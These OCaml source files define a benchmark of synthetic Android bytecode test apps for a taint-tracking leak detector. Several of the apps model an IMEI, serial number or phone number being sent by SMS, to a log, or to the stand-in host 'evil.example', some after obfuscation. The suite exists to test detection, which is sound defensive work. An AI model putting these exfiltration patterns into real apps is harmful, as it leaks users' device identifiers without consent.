(* Virtual dispatch: the receiver's class decides which implementation
   runs; the dispatched-to method leaks. *)
let virtual_dispatch1 =
  app ~name:"VirtualDispatch1" ~category:"GeneralJava" ~leaky:true (fun () ->
      prog
        ~classes:[ ("Leaky", [ "pad" ]); ("Safe", [ "pad" ]) ]
        [
          meth ~name:"Leaky.report" ~registers:4 ~ins:1
            (imei 0 @ [ lit 1 "TAG"; log ~tag:1 ~msg:0; B.Return_void ]);
          meth ~name:"Safe.report" ~registers:4 ~ins:1
            [ lit 0 "ok"; lit 1 "TAG"; log ~tag:1 ~msg:0; B.Return_void ];
          meth ~name:"main" ~registers:4 ~ins:0
            (body
               [
                 I (B.New_instance (0, "Leaky"));
                 I (B.Instance_of (1, 0, "Leaky"));
                 Ifz_l (B.Eq, 1, "safe");
                 I (B.Invoke (B.Virtual, "Leaky.report", [ 0 ]));
                 I B.Return_void;
                 L "safe";
                 I (B.Invoke (B.Virtual, "Safe.report", [ 0 ]));
                 I B.Return_void;
               ]);
        ])

(* Ten-deep call chain: taint rides the per-call argument copies. *)
let deep_call1 =
  let depth = 10 in
  app ~name:"DeepCall1" ~category:"GeneralJava" ~leaky:true (fun () ->
      let level i =
        let next =
          if i = depth then
            [
              lit 1 "5554";
              send_sms ~dest:1 ~msg:3 (* arg register: 4 - 1 = v3 *);
              B.Return_void;
            ]
          else
            [
              B.Invoke (B.Static, Printf.sprintf "f%d" (i + 1), [ 3 ]);
              B.Return_void;
            ]
        in
        meth ~name:(Printf.sprintf "f%d" i) ~registers:4 ~ins:1 next
      in
      prog
        (meth ~name:"main" ~registers:3 ~ins:0
           (imei 0
           @ [ B.Invoke (B.Static, "f1", [ 0 ]); B.Return_void ])
        :: List.init depth (fun i -> level (i + 1))))

(* Recursive per-character rebuild of the string. *)
let recursion1 =
  app ~name:"Recursion1" ~category:"GeneralJava" ~leaky:true (fun () ->
      prog
        [
          (* rebuild(s, sb, i): if i < len then append s[i]; recurse *)
          meth ~name:"rebuild" ~registers:10 ~ins:3
            (body
               [
                 (* args: v7 = s, v8 = sb, v9 = i *)
                 I (call "String.length" [ 7 ]);
                 I (B.Move_result 0);
                 If_l (B.Ge, 9, 0, "done");
                 I (call "String.charAt" [ 7; 9 ]);
                 I (B.Move_result 1);
                 I (call "StringBuilder.appendChar" [ 8; 1 ]);
                 I (B.Move_result_object 2);
                 I (B.Binop_lit8 (B.Add, 3, 9, 1));
                 I (B.Invoke (B.Static, "rebuild", [ 7; 8; 3 ]));
                 L "done";
                 I B.Return_void;
               ]);
          meth ~name:"main" ~registers:8 ~ins:0
            (imei 0
            @ sb_new ~dst:1
            @ [ B.Const4 (2, 0) ]
            @ [ B.Invoke (B.Static, "rebuild", [ 0; 1; 2 ]) ]
            @ sb_to_string ~dst:3 ~sb:1
            @ [ lit 4 "http://evil.example"; http ~url:4 ~body:3;
                B.Return_void ]);
        ])

(* Only part of the buffer is overwritten; the surviving half leaks.
   Exercises range splitting in both trackers. *)
let partial_overwrite1 =
  app ~name:"PartialOverwrite1" ~category:"GeneralJava" ~leaky:true
    (fun () ->
      prog
        [
          meth ~name:"main" ~registers:10 ~ins:0
            (body
               ([
                  Is (imei 0);
                  I (call "String.length" [ 0 ]);
                  I (B.Move_result 1);
                  I (B.New_array (2, 1, "char[]"));
                  I (call "String.getChars" [ 0; 2 ]);
                ]
               @ window_gap 8
               @ [
                   (* zero the first 8 chars only *)
                   I (lit 3 "00000000");
                   I (call "String.getChars" [ 3; 2 ]);
                   I (call "String.fromChars" [ 2 ]);
                   I (B.Move_result_object 4);
                   I (lit 5 "5554");
                   I (send_sms ~dest:5 ~msg:4);
                   I B.Return_void;
                 ]));
        ])

(* Two sources merged into one report: provenance should list both. *)
let taint_merge1 =
  app ~name:"TaintMerge1" ~category:"GeneralJava" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:7 ~ins:0
            (imei 0
            @ phone_number 1
            @ [ lit 2 "/" ]
            @ concat ~dst:3 0 2
            @ concat ~dst:4 3 1
            @ [ lit 5 "http://evil.example"; http ~url:5 ~body:4;
                B.Return_void ]);
        ])

(* Heavy clean compute between source and an unrelated send. *)
let big_loop1 =
  app ~name:"BigLoop1" ~category:"GeneralJava" ~leaky:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:10 ~ins:0
            (body
               ([ Is (serial 0) ]
               @ window_gap 8
               @ [
                   (* checksum over a clean array *)
                   I (B.Const16 (1, 64));
                   I (B.New_array (2, 1, "int[]"));
                   I (B.Const4 (3, 0));
                   I (B.Const4 (4, 0));
                   L "head";
                   If_l (B.Ge, 3, 1, "done");
                   I (B.Aget (5, 2, 3));
                   I (B.Binop_2addr (B.Add, 4, 5));
                   I (B.Aput (4, 2, 3));
                   I (B.Binop_lit8 (B.Add, 3, 3, 1));
                   Goto_l "head";
                   L "done";
                 ]
               @ window_gap 8
               @ [
                   Is (int_to_string ~dst:6 4);
                   I (lit 7 "TAG");
                   I (log ~tag:7 ~msg:6);
                   I B.Return_void;
                 ]));
        ])

(* An alias to the builder is cleared; the original never saw taint. *)
let alias2 =
  app ~name:"Alias2" ~category:"Aliasing" ~leaky:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (body
               ([
                  Is (sb_new ~dst:0);
                  I (B.Move_object (1, 0));
                  Is (imei 2);
                  (* the alias variable is overwritten before any append *)
                  I (B.Const4 (1, 0));
                  I (lit 3 "armless");
                  Is (sb_append ~sb:0 3);
                ]
               @ window_gap 8
               @ [
                   Is (sb_to_string ~dst:4 ~sb:0);
                   I (lit 5 "5554");
                   I (send_sms ~dest:5 ~msg:4);
                   I B.Return_void;
                 ]));
        ])

(* GPS through string formatting — the long itoa path in a fresh shape. *)
let string_formatter1 =
  app ~name:"StringFormatter1" ~category:"GeneralJava" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (latitude 0
            @ int_to_string ~dst:1 0
            @ [ lit 2 "lat=" ]
            @ concat ~dst:3 2 1
            @ [ lit 4 "5554"; send_sms ~dest:4 ~msg:3; B.Return_void ]);
        ])

(* --- Batch 2: callback registration, object graphs, precision ----------- *)

(* The leaking listener fires only if it is still registered (the
   EdgeMiner-style registration/callback pairing). *)
let callback_app ~name ~unregister =
  App.make ~subset48:false ~name ~category:"Callbacks" ~leaky:(not unregister)
    (fun () ->
      prog
        [
          meth ~name:"Listener.onEvent" ~registers:4 ~ins:0
            (imei 0 @ [ lit 1 "TAG"; log ~tag:1 ~msg:0; B.Return_void ]);
          meth ~name:"main" ~registers:4 ~ins:0
            (body
               ([
                  (* register: Framework.listener := 1 *)
                  I (B.Const4 (0, 1));
                  I (B.Sput (0, "Framework.listener"));
                ]
               @ (if unregister then
                    [ I (B.Const4 (0, 0)); I (B.Sput (0, "Framework.listener")) ]
                  else [])
               @ [
                   (* the framework fires the event *)
                   I (B.Sget (1, "Framework.listener"));
                   Ifz_l (B.Eq, 1, "skip");
                   I (call0 "Listener.onEvent");
                   L "skip";
                   I (lit 2 "TAG");
                   I (lit 3 "done");
                   I (log ~tag:2 ~msg:3);
                   I B.Return_void;
                 ]));
        ])

let register_callback1 = callback_app ~name:"RegisterCallback1" ~unregister:false
let unregister_callback1 = callback_app ~name:"UnregisterCallback1" ~unregister:true

(* Character codes re-encoded as decimal numbers: each hop through the
   itoa helper needs NI >= 10. *)
let array_to_string1 =
  App.make ~subset48:false ~name:"ArrayToString1" ~category:"ArraysAndLists"
    ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:12 ~ins:0
            (body
               [
                 Is (imei 0);
                 I (B.Const4 (1, 0));
                 I (call "String.charAt" [ 0; 1 ]);
                 I (B.Move_result 2);
                 Is (sb_new ~dst:3);
                 I (call "StringBuilder.appendInt" [ 3; 2 ]);
                 I (B.Move_result_object 3);
                 Is (sb_to_string ~dst:4 ~sb:3);
                 I (lit 5 "5554");
                 I (send_sms ~dest:5 ~msg:4);
                 I B.Return_void;
               ]);
        ])

(* Chars parked in object fields, one object per char, read back via
   iget (distance 5). *)
let object_array1 =
  App.make ~subset48:false ~name:"ObjectArray1" ~category:"ArraysAndLists"
    ~leaky:true (fun () ->
      prog
        ~classes:[ ("Cell", [ "c" ]) ]
        [
          meth ~name:"main" ~registers:14 ~ins:0
            (body
               [
                 Is (imei 0);
                 I (call "String.length" [ 0 ]);
                 I (B.Move_result 1);
                 I (B.New_array (2, 1, "object[]"));
                 I (B.Const4 (3, 0));
                 L "fill";
                 If_l (B.Ge, 3, 1, "filled");
                 I (call "String.charAt" [ 0; 3 ]);
                 I (B.Move_result 4);
                 I (B.New_instance (5, "Cell"));
                 I (B.Iput (4, 5, "c"));
                 I (B.Aput_object (5, 2, 3));
                 I (B.Binop_lit8 (B.Add, 3, 3, 1));
                 Goto_l "fill";
                 L "filled";
                 (* read back into a char array and exfiltrate *)
                 I (B.New_array (6, 1, "char[]"));
                 I (B.Const4 (3, 0));
                 L "drain";
                 If_l (B.Ge, 3, 1, "drained");
                 I (B.Aget_object (7, 2, 3));
                 I (B.Iget (8, 7, "c"));
                 I (B.Aput_char (8, 6, 3));
                 I (B.Binop_lit8 (B.Add, 3, 3, 1));
                 Goto_l "drain";
                 L "drained";
                 I (call "String.fromChars" [ 6 ]);
                 I (B.Move_result_object 9);
                 I (lit 10 "http://evil.example");
                 I (http ~url:10 ~body:9);
                 I B.Return_void;
               ]);
        ])

(* Nested helper calls, each returning a freshly derived string. *)
let static_method_chain1 =
  App.make ~subset48:false ~name:"StaticMethodChain1" ~category:"GeneralJava"
    ~leaky:true (fun () ->
      prog
        [
          meth ~name:"wrap" ~registers:5 ~ins:1
            ([ lit 0 "<" ]
            @ concat ~dst:1 0 4
            @ [ lit 2 ">" ]
            @ concat ~dst:3 1 2
            @ [ B.Return_object 3 ]);
          meth ~name:"main" ~registers:5 ~ins:0
            (serial 0
            @ [ B.Invoke (B.Static, "wrap", [ 0 ]); B.Move_result_object 1 ]
            @ [ B.Invoke (B.Static, "wrap", [ 1 ]); B.Move_result_object 2 ]
            @ [ lit 3 "TAG"; log ~tag:3 ~msg:2; B.Return_void ]);
        ])

(* Eight chained concatenations. *)
let concat_chain1 =
  App.make ~subset48:false ~name:"ConcatChain1" ~category:"GeneralJava"
    ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:6 ~ins:0
            (imei 0
            @ [ lit 1 "x" ]
            @ List.concat
                (List.init 8 (fun _ -> concat ~dst:0 0 1))
            @ [ lit 2 "5554"; send_sms ~dest:2 ~msg:0; B.Return_void ]);
        ])

(* References swapped back and forth; the tainted buffer is the one
   finally sent. *)
let swap1 =
  App.make ~subset48:false ~name:"Swap1" ~category:"Aliasing" ~leaky:true
    (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (imei 0
            @ [ lit 1 "decoy" ]
            (* swap v0 and v1 three times: v0 ends up the decoy,
               v1 the IMEI *)
            @ [
                B.Move_object (2, 0); B.Move_object (0, 1);
                B.Move_object (1, 2);
              ]
            @ [
                B.Move_object (2, 0); B.Move_object (0, 1);
                B.Move_object (1, 2);
              ]
            @ [
                B.Move_object (2, 0); B.Move_object (0, 1);
                B.Move_object (1, 2);
              ]
            (* after an odd number of swaps the IMEI is in v1 *)
            @ [ lit 3 "5554"; send_sms ~dest:3 ~msg:1; B.Return_void ]);
        ])

(* The source is only read in a branch that never executes. *)
let dead_branch_source1 =
  App.make ~subset48:false ~name:"DeadBranchSource1" ~category:"GeneralJava"
    ~leaky:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:6 ~ins:0
            (body
               [
                 I (B.Const4 (0, 0));
                 Ifz_l (B.Eq, 0, "safe");
                 Is (imei 1);
                 I (lit 2 "5554");
                 I (send_sms ~dest:2 ~msg:1);
                 I B.Return_void;
                 L "safe";
                 I (lit 3 "nothing to see");
                 I (lit 4 "TAG");
                 I (log ~tag:4 ~msg:3);
                 I B.Return_void;
               ]);
        ])

(* Only the tainted half of a mixed message is sent. *)
let half_leak1 =
  App.make ~subset48:false ~name:"HalfLeak1" ~category:"GeneralJava"
    ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            ([ lit 0 "id=" ]
            @ imei 1
            @ concat ~dst:2 0 1
            (* substring(3, 15): exactly the IMEI characters *)
            @ [ B.Const4 (3, 3); B.Const16 (4, 15) ]
            @ [ call "String.substring" [ 2; 3; 4 ]; B.Move_result_object 5 ]
            @ [ lit 6 "5554"; send_sms ~dest:6 ~msg:5; B.Return_void ]);
        ])

(* Only the clean prefix of the same mixed message is sent.  Exact
   byte-granular tracking keeps the prefix clean (full DIFT says benign);
   PIFT at (13,3) flags it anyway: the window that covers the concat's
   return taints the result-reference frame slot, the substring call
   re-loads that slot, and its first copied character lands inside the
   fresh window.  A documented precision limit of the heuristic — kept
   here as a known false positive. *)
let truncated_clean1 =
  App.make ~subset48:false ~name:"TruncatedClean1" ~category:"GeneralJava"
    ~leaky:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (body
               ([
                  I (lit 0 "id=");
                  Is (imei 1);
                  Is (concat ~dst:2 0 1);
                ]
               @ window_gap 8
               @ [
                   (* substring(0, 3) = "id=" only *)
                   I (B.Const4 (3, 0));
                   I (B.Const4 (4, 3));
                   I (call "String.substring" [ 2; 3; 4 ]);
                   I (B.Move_result_object 5);
                   I (lit 6 "5554");
                   I (send_sms ~dest:6 ~msg:5);
                   I B.Return_void;
                 ]));
        ])

(* Base64 exfiltration: the encoder reads the alphabet by computed index,
   so exact data-flow tracking sees only constant loads — an implicit
   flow, like real obfuscating malware.  PIFT flags it anyway: the
   encoded-output stores sit 5 and 11 instructions after the input-byte
   loads, inside the default window. *)
let base64_exfil1 =
  App.make ~subset48:false ~name:"Base64Exfil1" ~category:"ImplicitFlows"
    ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:6 ~ins:0
            (imei 0
            @ [ call "String.getBytes" [ 0 ]; B.Move_result_object 1 ]
            @ [ call "Base64.encode" [ 1 ]; B.Move_result_object 2 ]
            @ [ lit 3 "http://evil.example"; http ~url:3 ~body:2;
                B.Return_void ]);
        ])

let all : App.t list =
  [
    thread_handoff1;
    thread_handoff2;
    clipboard1;
    shared_prefs1;
    shared_prefs2;
    virtual_dispatch1;
    deep_call1;
    recursion1;
    partial_overwrite1;
    taint_merge1;
    big_loop1;
    alias2;
    string_formatter1;
    register_callback1;
    unregister_callback1;
    array_to_string1;
    object_array1;
    static_method_chain1;
    concat_chain1;
    swap1;
    dead_branch_source1;
    half_leak1;
    truncated_clean1;
    base64_exfil1;
  ]

let find name =
  List.find_opt (fun (a : App.t) -> String.equal a.App.name name) all
