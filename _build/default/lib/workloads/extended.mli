(** Extended test suite beyond the paper's DroidBench 1.1 snapshot —
    flow patterns from later DroidBench generations and from production
    apps.  These apps are {e not} part of the Fig. 11 subset or the 57-app
    inventory; they widen coverage of the tracker: shared-state handoffs,
    persistence round trips, deep call chains, recursion, partial
    overwrites (range splitting), and multi-source merges (provenance).

    All are detected/cleared correctly by PIFT at the paper's (13,3)
    operating point, and their labels agree with the full-DIFT oracle. *)

val all : App.t list
val find : string -> App.t option
