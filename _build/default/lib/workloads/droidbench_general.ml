(* GeneralJava-style cases: string manipulation, loops, dead code, and the
   benign controls.  Detection-difficulty notes per app give the minimum
   (NI, NT) at which PIFT catches the flow — these drive the Fig. 11
   staircase. *)

module B = Pift_dalvik.Bytecode
open Dsl

let app = App.make

(* §2 running example; min window (2,1) — char-copy distance 2. *)
let string_concat1 =
  app ~name:"StringConcat1" ~category:"GeneralJava" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:6 ~ins:0
            ([ lit 0 "type=sms" ]
            @ imei 1
            @ concat ~dst:2 0 1
            @ [ lit 3 "&dummy" ]
            @ concat ~dst:4 2 3
            @ [ lit 5 "5554"; send_sms ~dest:5 ~msg:4; B.Return_void ]);
        ])

(* The sink range *is* the source range: caught at any window. *)
let direct_leak1 =
  app ~name:"DirectLeak1" ~category:"AndroidSpecific" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:3 ~ins:0
            (imei 0
            @ [ lit 1 "http://evil.example/collect" ]
            @ [ http ~url:1 ~body:0; B.Return_void ]);
        ])

let log_leak1 =
  app ~name:"LogLeak1" ~category:"AndroidSpecific" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:4 ~ins:0
            (imei 0
            @ [ lit 1 "TAG" ]
            @ concat ~dst:2 1 0
            @ [ log ~tag:1 ~msg:2; B.Return_void ]);
        ])

let phone_number1 =
  app ~name:"PhoneNumber1" ~category:"AndroidSpecific" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:5 ~ins:0
            ([ lit 0 "num=" ]
            @ phone_number 1
            @ concat ~dst:2 0 1
            @ [ lit 3 "5554"; send_sms ~dest:3 ~msg:2; B.Return_void ]);
        ])

let serial1 =
  app ~name:"Serial1" ~category:"AndroidSpecific" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:6 ~ins:0
            (serial 0
            @ [ B.Const4 (1, 2); B.Const16 (2, 10) ]
            @ [ call "String.substring" [ 0; 1; 2 ]; B.Move_result_object 3 ]
            @ [ lit 4 "http://evil.example" ]
            @ [ http ~url:4 ~body:3; B.Return_void ]);
        ])

(* Two sources concatenated; caught via either. *)
let device_id1 =
  app ~name:"DeviceId1" ~category:"AndroidSpecific" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:7 ~ins:0
            (imei 0
            @ serial 1
            @ [ lit 2 "&" ]
            @ concat ~dst:3 0 2
            @ concat ~dst:4 3 1
            @ [ lit 5 "5554"; send_sms ~dest:5 ~msg:4; B.Return_void ]);
        ])

let substring1 =
  app ~name:"Substring1" ~category:"GeneralJava" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:6 ~ins:0
            (imei 0
            @ [ B.Const4 (1, 0); B.Const16 (2, 8) ]
            @ [ call "String.substring" [ 0; 1; 2 ]; B.Move_result_object 3 ]
            @ [ lit 4 "5554"; send_sms ~dest:4 ~msg:3; B.Return_void ]);
        ])

let string_to_upper1 =
  app ~name:"StringToUpper1" ~category:"GeneralJava" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:4 ~ins:0
            (imei 0
            @ [ call "String.toUpperCase" [ 0 ]; B.Move_result_object 1 ]
            @ [ lit 2 "TAG"; log ~tag:2 ~msg:1; B.Return_void ]);
        ])

(* Double XOR "encryption" through native transform copies. *)
let obfuscation1 =
  app ~name:"Obfuscation1" ~category:"GeneralJava" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:4 ~ins:0
            (imei 0
            @ [ call "String.toUpperCase" [ 0 ]; B.Move_result_object 1 ]
            @ [ call "String.toUpperCase" [ 1 ]; B.Move_result_object 2 ]
            @ [ lit 3 "http://evil.example"; http ~url:3 ~body:2;
                B.Return_void ]);
        ])

(* Sink behind a constant-true conditional. *)
let source_code_specific1 =
  app ~name:"SourceCodeSpecific1" ~category:"GeneralJava" ~leaky:true
    (fun () ->
      prog
        [
          meth ~name:"main" ~registers:5 ~ins:0
            (imei 0
            @ [ B.Const4 (1, 1); B.If_testz (B.Eq, 1, 7) ]
              (* pc 4..6: the sink branch *)
            @ [ lit 2 "5554"; send_sms ~dest:2 ~msg:0; B.Return_void ]
            @ [ B.Return_void ] (* pc 7: skip branch *));
        ])

(* getBytes -> byte[] -> new String -> http; copies at distance 2.
   Outside the Fig. 11 subset. *)
let get_bytes1 =
  app ~name:"GetBytes1" ~category:"GeneralJava" ~leaky:true ~subset48:false
    (fun () ->
      prog
        [
          meth ~name:"main" ~registers:5 ~ins:0
            (imei 0
            @ [ call "String.getBytes" [ 0 ]; B.Move_result_object 1 ]
            @ [ call "String.fromBytes" [ 1 ]; B.Move_result_object 2 ]
            @ [ lit 3 "http://evil.example"; http ~url:3 ~body:2;
                B.Return_void ]);
        ])

(* String -> char[] -> String round trip.  Outside the subset. *)
let char_array1 =
  app ~name:"CharArray1" ~category:"ArraysAndLists" ~leaky:true
    ~subset48:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:6 ~ins:0
            (imei 0
            @ [ call "String.length" [ 0 ]; B.Move_result 1 ]
            @ [ B.New_array (2, 1, "char[]") ]
            @ [ call "String.getChars" [ 0; 2 ] ]
            @ [ call "String.fromChars" [ 2 ]; B.Move_result_object 3 ]
            @ [ lit 4 "5554"; send_sms ~dest:4 ~msg:3; B.Return_void ]);
        ])

(* The leaking branch is never executed. *)
let unreachable_code =
  app ~name:"UnreachableCode" ~category:"GeneralJava" ~leaky:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:5 ~ins:0
            (imei 0
            @ [ B.Const4 (1, 0); B.If_testz (B.Eq, 1, 7) ]
              (* pc 4..6: dead sink *)
            @ [ lit 2 "5554"; send_sms ~dest:2 ~msg:0; B.Return_void ]
            @ [ lit 3 "5554" ]
            @ [ lit 2 "ok"; send_sms ~dest:3 ~msg:2; B.Return_void ]);
        ])

(* Per-char bytecode transformation loop.  [xform] maps the loaded char
   vreg to the stored one; its translation distance sets the app's
   minimum window. *)
let char_loop_app ~name ~xform ~sink =
  app ~name ~category:"GeneralJava" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:10 ~ins:0
            (body
               ([
                  Is (imei 0);
                  I (call "String.length" [ 0 ]);
                  I (B.Move_result 1);
                  I (B.New_array (2, 1, "char[]"));
                  I (call "String.getChars" [ 0; 2 ]);
                  I (B.New_array (3, 1, "char[]"));
                  I (B.Const4 (4, 0));
                  L "head";
                  If_l (B.Ge, 4, 1, "done");
                  I (B.Aget_char (5, 2, 4));
                ]
               @ xform
               @ [
                   I (B.Aput_char (6, 3, 4));
                   I (B.Binop_lit8 (B.Add, 4, 4, 1));
                   Goto_l "head";
                   L "done";
                   I (call "String.fromChars" [ 3 ]);
                   I (B.Move_result_object 7);
                 ]
               @ sink));
        ])

(* int-to-char copy (distance 6): needs NI >= 6. *)
let loop1 =
  char_loop_app ~name:"Loop1"
    ~xform:[ I (B.Int_to_char (6, 5)) ]
    ~sink:
      [ I (lit 8 "5554"); I (send_sms ~dest:8 ~msg:7); I B.Return_void ]

(* XOR obfuscation (xor-int/lit8, distance 5): needs NI >= 5. *)
let loop2 =
  char_loop_app ~name:"Loop2"
    ~xform:
      [ I (B.Binop_lit8 (B.Xor, 5, 5, 0x2A)); I (B.Move (6, 5)) ]
    ~sink:
      [
        I (lit 8 "http://evil.example");
        I (http ~url:8 ~body:7);
        I B.Return_void;
      ]

(* StringBuilder CSV assembly: per-char length bookkeeping stores mean the
   data store is the second store in the window -> needs NT >= 2 (and
   NI >= 3). *)
let batch_leak1 =
  app ~name:"BatchLeak1" ~category:"GeneralJava" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (sb_new ~dst:0
            @ [ lit 1 "id=" ]
            @ sb_append ~sb:0 1
            @ imei 2
            @ sb_append ~sb:0 2
            @ [ lit 3 "&p=" ]
            @ sb_append ~sb:0 3
            @ phone_number 4
            @ sb_append ~sb:0 4
            @ sb_to_string ~dst:5 ~sb:0
            @ [ lit 6 "http://evil.example"; http ~url:6 ~body:5;
                B.Return_void ]);
        ])

let sb_chain1 =
  app ~name:"SbChain1" ~category:"GeneralJava" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:6 ~ins:0
            (sb_new ~dst:0
            @ serial 1
            @ sb_append ~sb:0 1
            @ sb_to_string ~dst:2 ~sb:0
            @ [ lit 3 "TAG"; log ~tag:3 ~msg:2; B.Return_void ]);
        ])

(* Chars packed into a long (int-to-long d=5, add-long d=6), shifted back
   out and leaked: needs NI >= 6. *)
let wide_leak1 =
  app ~name:"WideLeak1" ~category:"GeneralJava" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:14 ~ins:0
            (imei 0
            @ [ B.Const4 (1, 0) ]
            @ [ call "String.charAt" [ 0; 1 ]; B.Move_result 2 ]
            (* pack: v4/v5 = (long) c; v6/v7 = v4 << 0 + ... *)
            @ [
                B.Int_to_long (4, 2);
                B.Const4 (8, 0);
                B.Add_long (6, 4, 4);
                B.Shr_long (6, 6, 8);
                B.Long_to_int (9, 6);
                B.Int_to_char (9, 9);
              ]
            (* rebuild a one-char string via a char array *)
            @ [ B.Const4 (10, 1); B.New_array (11, 10, "char[]") ]
            @ [ B.Const4 (12, 0); B.Aput_char (9, 11, 12) ]
            @ [ call "String.fromChars" [ 11 ]; B.Move_result_object 13 ]
            @ [ lit 3 "5554"; send_sms ~dest:3 ~msg:13; B.Return_void ]);
        ])

(* --- Benign controls --------------------------------------------------- *)

let benign_constant1 =
  app ~name:"BenignConstant1" ~category:"GeneralJava" ~leaky:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:6 ~ins:0
            (imei 0
            @ [ lit 1 "hello"; lit 2 "world" ]
            @ concat ~dst:3 1 2
            @ [ lit 4 "5554"; send_sms ~dest:4 ~msg:3; B.Return_void ]);
        ])

(* Sends the *length* of the IMEI — metadata, not data. *)
let benign_length1 =
  app ~name:"BenignLength1" ~category:"GeneralJava" ~leaky:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:5 ~ins:0
            (imei 0
            @ [ call "String.length" [ 0 ]; B.Move_result 1 ]
            @ int_to_string ~dst:2 1
            @ [ lit 3 "TAG"; log ~tag:3 ~msg:2; B.Return_void ]);
        ])

(* A buffer receives the IMEI, is then fully overwritten with constant
   data, and only then sent: clean under exact tracking; PIFT must
   untaint the overwritten stores to avoid a false positive. *)
let benign_overwrite1 =
  app ~name:"BenignOverwrite1" ~category:"GeneralJava" ~leaky:false
    (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (body
               ([
                  Is (imei 0);
                  I (call "String.length" [ 0 ]);
                  I (B.Move_result 1);
                  I (B.New_array (2, 1, "char[]"));
                  I (call "String.getChars" [ 0; 2 ]);
                ]
               (* store-free gap, then a long clean stretch, so the
                  overwrite stores fall outside any tainting window *)
               @ window_gap 8
               @ clean_loop ~counter:4 ~bound:5 ~iterations:40
               (* overwrite with constant text of the same length *)
               @ [
                   I (lit 3 "000000000000000");
                   I (call "String.getChars" [ 3; 2 ]);
                   I (call "String.fromChars" [ 2 ]);
                   I (B.Move_result_object 6);
                   I (lit 7 "5554");
                   I (send_sms ~dest:7 ~msg:6);
                   I B.Return_void;
                 ]));
        ])

(* Sensitive processing happens, then — after re-using and cleansing the
   registers and a long clean stretch — an unrelated message is built and
   sent. *)
let benign_separate1 =
  app ~name:"BenignSeparate1" ~category:"GeneralJava" ~leaky:false
    (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (body
               ([
                  Is (imei 0);
                  I (call "String.toUpperCase" [ 0 ]);
                  I (B.Move_result_object 1);
                  (* register cleansing: constants overwrite the slots the
                     tainted phase used (outside windows -> untainted) *)
                  I (B.Const4 (0, 0));
                  I (B.Const4 (1, 0));
                  I (B.Const4 (2, 0));
                ]
               @ window_gap 8
               @ clean_loop ~counter:4 ~bound:5 ~iterations:60
               @ [
                   I (lit 2 "status=");
                   I (lit 3 "ok");
                   Is (concat ~dst:6 2 3);
                   I (lit 7 "http://stats.example");
                   I (http ~url:7 ~body:6);
                   I B.Return_void;
                 ]));
        ])

(* Reads the phone number but sends a constant template. *)
let benign_format1 =
  app ~name:"BenignFormat1" ~category:"AndroidSpecific" ~leaky:false
    (fun () ->
      prog
        [
          meth ~name:"main" ~registers:7 ~ins:0
            (body
               ([ Is (phone_number 0); I (B.Const4 (0, 0)) ]
               @ clean_loop ~counter:4 ~bound:5 ~iterations:40
               @ [
                   I (lit 1 "+1-XXX-XXX-XXXX");
                   I (lit 2 "TAG");
                   I (log ~tag:2 ~msg:1);
                   I B.Return_void;
                 ]));
        ])

(* Aliasing: two references to the same builder; the one that is sent
   only ever received clean data. *)
let merge1 =
  app ~name:"Merge1" ~category:"Aliasing" ~leaky:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (sb_new ~dst:0
            @ [ B.Move_object (1, 0) ]
            @ [ lit 2 "clean" ]
            @ sb_append ~sb:1 2
            @ imei 3
            (* the IMEI string itself is never appended anywhere *)
            @ sb_to_string ~dst:4 ~sb:0
            @ [ lit 5 "5554"; send_sms ~dest:5 ~msg:4; B.Return_void ]);
        ])

let all : App.t list =
  [
    string_concat1;
    direct_leak1;
    log_leak1;
    phone_number1;
    serial1;
    device_id1;
    substring1;
    string_to_upper1;
    obfuscation1;
    source_code_specific1;
    get_bytes1;
    char_array1;
    unreachable_code;
    loop1;
    loop2;
    batch_leak1;
    sb_chain1;
    wide_leak1;
    benign_constant1;
    benign_length1;
    benign_overwrite1;
    benign_separate1;
    benign_format1;
    merge1;
  ]
