(* Callback, intent, reflection and location cases. *)

module B = Pift_dalvik.Bytecode
open Dsl

let app = App.make
let intent = ("Intent", [ "extra" ])

(* The framework "invokes" onClick, which leaks. *)
let button1 =
  app ~name:"Button1" ~category:"Callbacks" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"Button.onClick" ~registers:5 ~ins:0
            (imei 0
            @ [ lit 1 "clicked=" ]
            @ concat ~dst:2 1 0
            @ [ lit 3 "5554"; send_sms ~dest:3 ~msg:2; B.Return_void ]);
          meth ~name:"main" ~registers:1 ~ins:0
            [ call0 "Button.onClick"; B.Return_void ];
        ])

let button2 =
  app ~name:"Button2" ~category:"Callbacks" ~leaky:false (fun () ->
      prog
        [
          meth ~name:"Button.onClick" ~registers:4 ~ins:0
            (imei 0
